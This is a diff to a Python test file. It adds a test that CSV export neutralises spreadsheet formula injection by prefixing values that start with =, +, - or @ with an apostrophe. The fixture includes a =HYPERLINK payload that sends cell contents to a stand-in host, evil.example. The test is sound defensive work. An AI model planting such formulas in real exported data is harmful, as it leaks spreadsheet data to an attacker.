@@ -31,6 +31,16 @@ def test_a_document_becomes_one_table_with_a_section_per_list_and_its_problems_a
     assert rows(document_csv({"ok": True, "checks": []})[0]) == [{"ok": "True", "checks": ""}]
 
 
+def test_text_a_spreadsheet_would_run_is_written_inert_and_numbers_stay():
+    """A tag value or a decline note typed in Slack starting with =, +, -, @ would be a formula in Excel or Google
+    Sheets: it gets a leading ' (shown as written); numbers, negative ones too, stay numbers."""
+    doc = [{"note": '=HYPERLINK("http://evil.example/?"&A1,"x")', "owner": "@SUM(1+1)", "team": "+cmd",
+            "tags": ["-1+2", "v1"], "delta": -3.5, "plain": "shop"}]
+    [found] = rows(document_csv(doc)[0])
+    assert found == {"note": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "owner": "'@SUM(1+1)",
+                     "team": "'+cmd", "tags": "'-1+2 v1", "delta": "-3.5", "plain": "shop"}
+
+
 def test_every_data_command_prints_its_json_as_csv(aws, capsys):
     load([repository()])
     assert run_cli(capsys, "scan")[0] == 0
